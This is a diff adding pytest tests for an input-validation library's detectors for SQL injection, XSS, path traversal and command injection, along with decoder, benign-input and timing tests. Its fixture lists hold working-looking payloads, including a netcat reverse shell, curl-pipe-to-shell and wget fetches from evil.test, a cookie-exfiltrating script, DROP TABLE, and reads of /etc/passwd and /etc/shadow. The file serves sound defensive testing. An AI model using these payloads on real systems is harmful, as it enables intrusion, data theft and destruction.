@@ -1,0 +1,315 @@
+"""The detection engine on its own: decoders, each detector, totality and bounded time.
+
+The cases are written for these tests (not taken from the benchmark corpora), so they check
+that the detectors generalise: each attack class in several encodings and contexts, and the
+benign look-alikes real users type.
+"""
+
+from __future__ import annotations
+
+import time
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from hardpoint.validation import Detector, scan
+from hardpoint.validation._decode import decode, percent_decode
+from hardpoint.validation._engine import detect
+from hardpoint.validation._html import xss_reason
+from hardpoint.validation._path import traversal_reason
+from hardpoint.validation._shell import command_reason
+from hardpoint.validation._sql import _lex, sql_reason
+
+SQLI = [
+    "' OR '1'='1",
+    "admin'--",
+    "x' or 1=1 -- -",
+    '" or ""="',
+    "1 OR 1=1",
+    "-7 UNION ALL SELECT username, password FROM accounts--",
+    "1) UNION SELECT NULL,NULL,version()#",
+    "'; DROP TABLE invoices; --",
+    "1; DELETE FROM sessions WHERE 1=1",
+    "') AND SLEEP(4) AND ('x'='x",
+    "1 AND (SELECT COUNT(*) FROM information_schema.tables) > 0",
+    "1' AND extractvalue(1, concat(0x7e, (SELECT user()))) -- ",
+    "1;WAITFOR DELAY '0:0:7'--",
+    "x' UNION/**/SELECT/**/card_no/**/FROM/**/payments#",
+    "1%27%20OR%201%3D1--",  # percent-encoded once more than the app decodes
+    "' || (SELECT pg_sleep(3)) || '",
+    "99 AND ASCII(SUBSTRING((SELECT secret FROM vault LIMIT 1),1,1))>64",
+    "'; EXEC master..xp_cmdshell 'whoami'--",
+    "1 OR 42=42",
+    "' OR user_id IS NOT NULL --",
+]
+XSS = [
+    "<script>fetch('//evil.test/?c='+document.cookie)</script>",
+    "<img src=x onerror=alert(document.domain)>",
+    '"><svg/onload=confirm(7)>',
+    "<a href=\"javascript:alert('hi')\">click</a>",
+    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
+    '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>',
+    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
+    "%253Cimg%2520src%253Dx%2520onerror%253Dprompt(2)%253E",
+    "&lt;script&gt;alert(3)&lt;/script&gt;",
+    "\uff1cscript\uff1ealert(4)\uff1c/script\uff1e",  # full-width brackets
+    "' onmouseover='alert(5)",
+    '<div style="width: expression(alert(6))">',
+    "<body background=\"javascript:alert('bg')\">",
+    "javascript:alert(document.cookie)",
+    "<details open ontoggle=prompt(8)>",
+]
+PATH_TRAVERSAL = [
+    "../../../../etc/passwd",
+    "..\\..\\..\\windows\\win.ini",
+    "%2e%2e%2f%2e%2e%2fetc%2fshadow",
+    "%252e%252e%252f%252e%252e%252fboot.ini",
+    "..%c0%af..%c0%afetc/passwd",
+    "..%u2216..%u2216secret.txt",
+    "images/../../../../var/www/.htpasswd",
+    "....//....//....//etc/hosts",
+    "/etc/passwd",
+    "php://filter/convert.base64-encode/resource=index.php",
+    "file:///etc/shadow",
+    "..;/..;/admin",
+]
+COMMAND_INJECTION = [
+    "; cat /etc/passwd",
+    "127.0.0.1 && whoami",
+    "x | nc -e /bin/sh 10.0.0.9 4444",
+    "$(curl http://evil.test/run.sh | sh)",
+    "`id`",
+    "name;${IFS}ls${IFS}-la",
+    "a;w'h'o'a'm'i",
+    "foo & type C:\\Windows\\win.ini",
+    "|| ping -c 9 127.0.0.1",
+    "() { :;}; /bin/bash -c 'id'",
+    "test\nuname -a",
+    "; /usr/bin/wget http://evil.test/x -O /tmp/x",
+    "a%0Aid",
+    "& powershell -enc SQBFAFgA",
+    "{cat,/etc/passwd}",
+]
+BENIGN = [
+    "O'Brien",
+    "D'Arcy-Smith",
+    "van 't Hof",
+    "It's a lovely day, isn't it?",
+    "Please select a size and drop me a line; thanks!",
+    "Union Street 12, Apt. 3",
+    "Tom & Jerry",
+    "Rock 'n' roll -- the best music",
+    "I <3 my cat",
+    "a < b and c > d",
+    "<b>Bold</b> and <i>italic</i> text",
+    '<a href="https://example.com/docs">docs</a>',
+    "x = 1 or y = 2",
+    "1=1",
+    "Select the items from the list, then update your cart.",
+    "We need to drop the old table and create a new one for the party.",
+    "Where is the order I placed on 3/4?",
+    "C:\\Users\\ana\\Documents\\report (final).docx",
+    "docs/../img/logo.png",
+    "https://example.com/search?q=union+jack&page=2",
+    "Wait... what?",
+    "50% off -- today only!",
+    "My email is ana.o'neil@example.ie",
+    "Ships in 2-3 days; tracking number #4417",
+    "Call me at +1 (555) 010-2234",
+    "The cat sat on the mat",
+    "sleep 8 hours a night",
+    "Java: the good parts",
+    'He said "yes" and she said "no"',
+    "Total: $19.99 (incl. VAT)",
+    "I'm 5'10\" tall",
+    "café crème brûlée",
+    "Müller & Söhne GmbH",
+    "东京都港区",
+    "Email: <ana@example.com>",
+    "README.md, setup.py and LICENSE",
+    "what's 2+2? 4!",
+    "if-then-else",
+    "Ping me when you're done",
+    "Let's meet at 10:30; bring the slides",
+]
+
+
+@pytest.mark.parametrize("value", SQLI)
+def test_sql_injection_is_detected(value: str) -> None:
+    finding = scan(value)
+    assert finding is not None, value
+    assert finding.rule is Detector.SQLI, (value, finding)
+
+
+@pytest.mark.parametrize("value", XSS)
+def test_cross_site_scripting_is_detected(value: str) -> None:
+    finding = scan(value)
+    assert finding is not None, value
+    assert finding.rule is Detector.XSS, (value, finding)
+
+
+@pytest.mark.parametrize("value", PATH_TRAVERSAL)
+def test_path_traversal_is_detected(value: str) -> None:
+    finding = scan(value)
+    assert finding is not None, value
+    assert finding.rule is Detector.PATH_TRAVERSAL, (value, finding)
+
+
+@pytest.mark.parametrize("value", COMMAND_INJECTION)
+def test_command_injection_is_detected(value: str) -> None:
+    finding = scan(value)
+    assert finding is not None, value
+    assert finding.rule is Detector.COMMAND_INJECTION, (value, finding)
+
+
+@pytest.mark.parametrize("value", BENIGN)
+def test_benign_values_pass(value: str) -> None:
+    assert scan(value) is None
+
+
+def test_each_detector_can_be_switched_off() -> None:
+    cases = {
+        Detector.SQLI: SQLI[0],
+        Detector.XSS: XSS[0],
+        Detector.PATH_TRAVERSAL: PATH_TRAVERSAL[0],
+        Detector.COMMAND_INJECTION: COMMAND_INJECTION[0],
+    }
+    for detector, value in cases.items():
+        assert detect(value, frozenset({detector})) is not None
+        others = frozenset(Detector) - {detector}
+        finding = detect(value, others)
+        assert finding is None or finding.rule is not detector
+
+
+def test_findings_never_copy_the_input() -> None:
+    marker = "zq9secretzq9"
+    finding = scan(f"' OR 1=1 -- {marker}")
+    assert finding is not None
+    assert marker not in repr(finding)
+
+
+# -- decoders ------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("raw", "decoded"),
+    [
+        ("%2e%2e%2f", "../"),
+        ("%252e%252e%252f", "../"),  # double encoding
+        ("%25252e", "."),  # triple
+        ("%c0%ae%c0%af", "./"),  # overlong UTF-8
+        ("%e0%80%ae", "."),  # three-byte overlong
+        ("%c1%1c", "\\"),  # IIS: top bits of the second byte ignored
+        ("%u002e%u2215", "./"),  # %u form and a division slash
+        ("&#x3c;&#60;&lt;", "<<<"),
+        ("\\x3cscript\\u003e", "<script>"),
+        ("\uff1c\uff53\uff43\uff52\uff49\uff50\uff54", "<script"),  # full-width
+        ("+ADw-script+AD4-", "<script>"),  # UTF-7
+        ("caf%C3%A9", "café"),
+        ("plain text", "plain text"),
+    ],
+)
+def test_decode(raw: str, decoded: str) -> None:
+    assert decode(raw) == decoded
+
+
+def test_percent_decode_is_one_layer() -> None:
+    assert percent_decode("%252e") == "%2e"
+    assert percent_decode("100% sure") == "100% sure"
+
+
+# -- detectors are total and bounded ---------------------------------------------------------
+
+_RISKY = st.sampled_from(
+    [
+        "'",
+        '"',
+        "`",
+        "<",
+        ">",
+        "/",
+        "\\",
+        "..",
+        "%",
+        "%2",
+        "%c0",
+        "&#",
+        "&",
+        ";",
+        "|",
+        "$(",
+        "${",
+        "{",
+        "}",
+        "(",
+        ")",
+        "[",
+        "=",
+        "--",
+        "/*",
+        "*/",
+        "#",
+        "@@",
+        "on",
+        "onerror=",
+        "script:",
+        "data:",
+        "select ",
+        "union ",
+        "or ",
+        "1",
+        "x",
+        " ",
+        "\n",
+        "\x00",
+        "é",
+        "\uff1c",
+        "sh -c",
+        "cmd",
+        "if ",
+        "0x",
+    ]
+)
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.text(max_size=300))
+def test_every_function_is_total_on_any_text(value: str) -> None:
+    decoded = decode(value)
+    assert isinstance(decoded, str)
+    for check in (sql_reason, xss_reason, traversal_reason, command_reason):
+        reason = check(decoded)
+        assert reason is None or isinstance(reason, str)
+    assert isinstance(_lex(decoded.lower()), list)
+    finding = scan(value)
+    assert finding is None or finding.rule in Detector
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(_RISKY, max_size=80).map("".join))
+def test_every_function_is_total_on_attack_fragments(value: str) -> None:
+    for check in (sql_reason, xss_reason, traversal_reason, command_reason):
+        check(decode(value))
+    scan(value)
+
+
+@settings(max_examples=60, deadline=None)
+@given(st.lists(_RISKY, min_size=1, max_size=4))
+def test_time_is_bounded_on_long_repetitive_input(atoms: list[str]) -> None:
+    """10,000 characters of any repeated fragment: linear work, far from a regex blow-up.
+
+    The bound is loose (a shared CI machine); a quadratic pattern takes seconds here.
+    """
+    value = ("".join(atoms) * 10_000)[:10_000]
+    started = time.perf_counter()
+    scan(value)
+    assert time.perf_counter() - started < 0.25, atoms
+
+
+def test_time_is_bounded_on_a_long_run_before_a_parenthesis() -> None:
+    # Once quadratic: every start position of the run rescanned it looking for "(".
+    value = "system('echo " + "X" * 9_000 + "')"
+    started = time.perf_counter()
+    scan(value)
+    assert time.perf_counter() - started < 0.25
